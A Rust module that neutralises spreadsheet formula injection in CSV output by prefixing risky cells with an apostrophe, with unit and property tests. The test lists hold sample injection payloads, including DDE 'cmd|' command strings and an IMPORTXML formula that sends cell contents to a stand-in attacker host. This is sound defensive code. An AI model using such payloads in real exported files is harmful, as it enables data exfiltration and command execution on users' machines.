//! Keeping texts texts: a spreadsheet that opens a CSV file takes some of them for formulas.

use std::borrow::Cow;

/// Puts an apostrophe before a text that a spreadsheet could evaluate.
///
/// The first character that shows decides; white space, control and zero-width characters before it do not
/// help. `=`, `@`, their full-width forms and those of the signs, tab, CR and LF always get the apostrophe.
/// A leading `+` or `-` is often prose, so it does not where the text cannot be a formula: see
/// [`cannot_be_a_formula`].
pub(super) fn neutralise(text: &str) -> Cow<'_, str> {
    if is_dangerous(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text that was neutralised, as far as that can be known: a text of people that starts with an
/// apostrophe before a formula looks the same.
pub(super) fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|text| is_dangerous(text)).unwrap_or(cell)
}

/// As [`neutralise`], but so that [`restore_exact`] gives the text back, whatever it is: for keys.
pub(super) fn neutralise_exact(text: &str) -> Cow<'_, str> {
    if is_dangerous(text.trim_start_matches('\'')) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of which [`neutralise_exact`] made `cell`.
pub(super) fn restore_exact(cell: &str) -> &str {
    let is_neutralised = is_dangerous(cell.trim_start_matches('\''));
    cell.strip_prefix('\'').filter(|_| is_neutralised).unwrap_or(cell)
}

fn is_dangerous(text: &str) -> bool {
    let shown = text.trim_start_matches(is_unseen);
    match shown.chars().next() {
        Some('=' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠') => true,
        Some('+' | '-') => !cannot_be_a_formula(shown),
        _ => false,
    }
}

fn is_unseen(character: char) -> bool {
    match character {
        '\t' | '\r' | '\n' => false,
        // soft hyphen, zero-width and bidi marks, word joiners, BOM
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' => true,
        '\u{2060}'..='\u{206f}' | '\u{feff}' => true,
        _ => character.is_whitespace() || character.is_control(),
    }
}

/// True for a text with a leading sign that no spreadsheet evaluates to anything but itself:
/// - nothing but signs: `-`, `---`;
/// - one number or percentage: `-5`, `+3,5 %`;
/// - prose with two operands and no operator between them, such as `12 gates` or `5% against`, before any
///   character that could put these words into a string or a name. As a formula is evaluated as a whole or
///   not at all, that settles it; all the same, a text with `=`, `|` or a call `NAME(` does not pass.
fn cannot_be_a_formula(text: &str) -> bool {
    let operand = text.trim_start_matches(['+', '-', ' ', '\u{a0}']);
    operand.trim().is_empty() || is_number(text) || (is_prose(text) && !has_machinery(text))
}

fn is_number(text: &str) -> bool {
    let number = text.trim_end();
    let number = number.strip_suffix('%').unwrap_or(number).trim_end();
    let digits = number.get(1..).unwrap_or_default().trim_start_matches([' ', '\u{a0}']);
    let is_part = |character: char| character.is_ascii_digit() || matches!(character, '.' | ',');
    digits.starts_with(|first: char| first.is_ascii_digit()) && digits.chars().all(is_part)
}

fn is_prose(text: &str) -> bool {
    let plain = text.find(['"', '\'', '[', '{', '|', '!', '`']).and_then(|at| text.get(..at)).unwrap_or(text);
    let mut last_was_number = false;
    plain.split_whitespace().any(|word| {
        let two_operands = last_was_number && word.starts_with(char::is_alphabetic);
        last_was_number = is_number_word(word);
        two_operands
    })
}

/// A word that is a number, perhaps signed, perhaps a percentage: `12`, `-5%`. `A12` and `2+3` are not.
fn is_number_word(word: &str) -> bool {
    let digits = word.trim_start_matches(['+', '-', '(']);
    let digits = digits.strip_suffix('%').unwrap_or(digits);
    !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
}

fn has_machinery(text: &str) -> bool {
    let mut last = ' ';
    text.chars().any(|character| {
        let is_call = character == '(' && (last.is_alphanumeric() || matches!(last, '_' | '.'));
        last = character;
        is_call || matches!(character, '=' | '|' | '＝')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_could_be_evaluated_gets_an_apostrophe() {
        for text in [
            "=1+1",
            "=IMPORTXML(CONCATENATE(\"https://attacker.invalid/?d=\",A2),\"//a\")",
            "=",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@17",
            "\t=1+1",
            "\tindented",
            "\r=1+1",
            "\n- Done: 12 gates",
            "＝1+1",
            "＋1",
            "－5",
            "＠SUM(1)",
            " =1+1",
            "\u{a0}=1+1",
            "\u{3000}=1+1",
            "\u{feff}=1+1",
            "\u{200b}=1+1",
            "\u{200b} \u{202e}=1+1",
            "\u{ad}=1+1",
            "\0=1+1",
            "\x0b=1+1",
            "-A1",
            "- A1+B2",
            "+HYPERLINK(\"https://attacker.invalid\")",
            "- WEBSERVICE (A1)",
            "- cmd|' /C calc'!A0",
            "- 2 cmd|' /C calc'!A0",
            "-\"12 gates\"&WEBSERVICE(A1)",
            "-'12 gates'!A1",
            "-12 gates WEBSERVICE(A1)",
            "-2+3",
            "+7-495-123",
            "-3/4",
            "--1",
            "-Done",
            "+(1)",
        ] {
            let cell = neutralise(text);
            assert_eq!(cell, format!("'{text}"), "{text:?}");
            assert_eq!(restore(&cell), text);
            assert_eq!(neutralise(&cell), cell, "an apostrophe is enough");
        }
    }

    #[test]
    fn what_cannot_be_evaluated_is_left_alone() {
        for text in [
            "",
            " ",
            "Done: 12 gates",
            "- Done: 12 gates (5 Mar), 900 passes (11 Mar)\n- In progress: guest passes\n- Next: it's 20 Mar",
            "-5% against plan is within tolerance. Done: 12 gates installed (5 Mar)",
            "- Сделано: 140 окон",
            "+3 people joined",
            "-",
            "---",
            "- ",
            "-5",
            "- 7",
            "+3.5%",
            "-1000,50 %",
            "'=1+1",
            "1+1",
            "a=1",
            "(555) 12",
            "007",
            "1E5",
            "3/4",
            "—",
            "«=1»",
            "\u{200b}",
        ] {
            assert_eq!(neutralise(text), text, "{text:?}");
            assert_eq!(restore(text), if text == "'=1+1" { "=1+1" } else { text });
        }
    }

    proptest::proptest! {
        #[test]
        fn keys_come_back_whatever_they_are(key in "['=@+\\- a1\u{200b}]{0,6}") {
            let cell = neutralise_exact(&key);
            proptest::prop_assert_eq!(restore_exact(&cell), &key);
            proptest::prop_assert!(!is_dangerous(&cell));
        }

        #[test]
        fn nothing_dangerous_is_left(text in "[ \\t=+@\\-A1(|!%]{0,8}") {
            let cell = neutralise(&text);
            proptest::prop_assert!(!is_dangerous(&cell));
            proptest::prop_assert!(cell == text || cell.strip_prefix('\'') == Some(&text));
        }
    }
}
